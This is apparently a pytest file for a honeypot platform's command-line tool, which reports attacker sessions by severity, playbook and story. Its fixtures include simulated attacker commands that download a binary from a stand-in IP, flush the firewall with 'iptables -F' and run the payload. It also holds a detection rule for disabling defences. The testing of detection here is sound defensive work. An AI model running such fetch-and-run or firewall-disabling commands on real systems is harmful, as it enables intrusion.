"""What a session amounts to on the command line: the page of one session, and lists by severity and playbook."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from decnet.bus.base import Event
from decnet.bus.null import NullBus
from decnet.config import load_settings
from decnet.db.repository import BaseRepository
from decnet.recorder.worker import RecorderWorker
from decnet.runtime.worker import transaction
from decnet.ttp.store.factory import get_rule_store
from decnet.ttp.worker import TtpWorker
from decnet_tui.cli.main import app
from tests.wirekit import taken

RULE = """rule_id: R9001
rule_version: 1
name: firewall
description: The firewall is switched off.
applies_to: [command]
match: {field: argv0, op: equals, value: iptables}
emits: [{tactic: TA0005, technique_id: T1562, sub_technique_id: T1562.004, confidence: 0.8}]
tests: {match: ["iptables -F"], no_match: ["ls"]}
"""
RAN = ["wget http://203.0.113.9/sshd", "iptables -F", "sh sshd"]
SESSIONS = {"ran": RAN, "ran-again": [line.replace("sshd", "k7") for line in RAN], "looked": ["uname -a"]}


def ended(name: str, lines: list[str], at: float) -> Event:
    commands = [{"id": f"{name}#cmd{n}", "command_text": text, "ts": at + n} for n, text in enumerate(lines)]
    payload = {
        "session_id": name, "attacker_ip": "203.0.113.1", "decky_id": "d", "started_at": at, "ended_at": at + 9,
        "commands": commands, "command_count": len(lines), "service": "ssh",
    }  # fmt: skip
    return Event("attacker.session.ended", payload, "", f"e-{name}", at + 9)


async def _filled(folder: Path) -> None:
    rules = folder / "rules"
    rules.mkdir()
    (rules / "R9001.yaml").write_text(RULE)
    settings = load_settings(data_dir=folder, rules=rules)
    repo = await BaseRepository.open(settings.db_url)
    try:
        worker = TtpWorker(get_rule_store(settings, repo=repo), settings)
        await worker.start(repo, NullBus())
        events = [ended(name, lines, 1000.0 * n) for n, (name, lines) in enumerate(SESSIONS.items(), 1)]
        async with transaction(repo) as tx:
            await RecorderWorker(load_settings()).handle(taken(events), tx)
            await worker.handle(taken(events), tx)
            open_one = {"session_id": "open", "attacker_ip": "203.0.113.1", "started_at": 9000.0}
            started = Event("attacker.session.started", open_one, "", "e-open", 9000.0)
            await RecorderWorker(load_settings()).handle(taken([started]), tx)
    finally:
        await repo.close()


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("data")
    asyncio.run(_filled(made))
    return made


def asked(folder: Path, *args: str) -> str:
    result = CliRunner().invoke(app, [*args, "--data-dir", str(folder)])
    assert result.exit_code == 0, result.output
    return result.output


def listed(folder: Path, *args: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = json.loads(asked(folder, "sessions", "--json", *args))
    return rows


def test_the_page_of_a_session_says_what_it_amounts_to(folder: Path) -> None:
    lines = asked(folder, "session", "ran").splitlines()
    playbook = listed(folder, "--session", "ran")[0]["playbook"]
    assert "story           fetch sshd \u203a blind \u203a run sshd" in lines
    assert "severity        high: fetched and ran sshd; switched off defences (firewall)" in lines
    assert f"playbook        {playbook}" in lines
    assert "first time ever playbook, host 203.0.113.9, technique T1562.004" in lines


def test_what_is_no_news_is_not_called_so(folder: Path) -> None:
    assert "first time" not in asked(folder, "session", "ran-again")


def test_a_session_that_runs_says_that_it_is_not_judged(folder: Path) -> None:
    assert "not judged yet" in asked(folder, "session", "open")


def test_a_session_as_json_has_story_severity_playbook_and_first_times(folder: Path) -> None:
    told = json.loads(asked(folder, "session", "ran", "--json"))
    assert [phase["phase"] for phase in told["story"]] == ["deliver", "blind", "deliver"]
    assert (told["severity"], told["severity_reason"]) == (
        "high",
        "fetched and ran sshd; switched off defences (firewall)",
    )
    assert told["first_times"] == {
        "hosts": ["203.0.113.9"],
        "playbooks": [told["playbook"]],
        "techniques": ["T1562.004"],
    }


def test_a_list_of_sessions_has_the_same_keys(folder: Path) -> None:
    rows = {row["session_id"]: row for row in listed(folder)}
    assert rows["ran"]["severity"] == rows["ran-again"]["severity"] == "high"
    assert rows["ran"]["playbook"] == rows["ran-again"]["playbook"] != rows["looked"]["playbook"]
    assert rows["ran"]["story"][0]["what"] == ["sshd"]
    assert rows["looked"]["severity_reason"] == "logged in and looked"
    nothing = {name: rows["open"][name] for name in ("story", "severity", "severity_reason", "playbook")}
    assert set(nothing.values()) == {None}


def test_lists_are_narrowed_by_severity_and_playbook(folder: Path) -> None:
    def names(*args: str) -> set[str]:
        return {row["session_id"] for row in listed(folder, *args)}

    assert names("--severity", "critical") == set()
    assert names("--severity", "high") == {"ran", "ran-again"}
    assert names("--severity", "low") == {"ran", "ran-again", "looked"}
    playbook = listed(folder, "--session", "ran")[0]["playbook"]
    assert names("--playbook", playbook) == {"ran", "ran-again"}
    assert names("--playbook", "pb-none") == set()


def test_sessions_that_do_the_same_are_one_playbook(folder: Path) -> None:
    rows = json.loads(asked(folder, "playbooks", "--json"))
    assert [(row["severity"], row["session_count"], row["attacker_count"]) for row in rows] == [
        ("high", 2, 1),
        ("low", 1, 1),
    ]
    assert rows[0]["story_line"] == "fetch k7 \u203a blind \u203a run k7", "that of the newest"
    assert rows[0]["first_seen"] < rows[0]["last_seen"]
    (worst,) = json.loads(asked(folder, "playbooks", "--json", "--severity", "medium"))
    assert worst == rows[0]
    assert asked(folder, "playbooks").splitlines()[1].startswith(rows[0]["playbook"])


def test_a_severity_that_is_none_is_refused_with_the_words_there_are(folder: Path) -> None:
    result = CliRunner().invoke(app, ["sessions", "--severity", "awful", "--data-dir", str(folder)])
    assert result.exit_code == 2
    assert "critical" in result.output


def test_the_table_has_the_severity_and_the_story_where_there_is_room(folder: Path) -> None:
    head, *rows = asked(folder, "sessions").splitlines()
    assert head.split()[1] == "severity"
    assert head.endswith("story_line")
    assert any("fetch sshd \u203a blind" in row for row in rows)
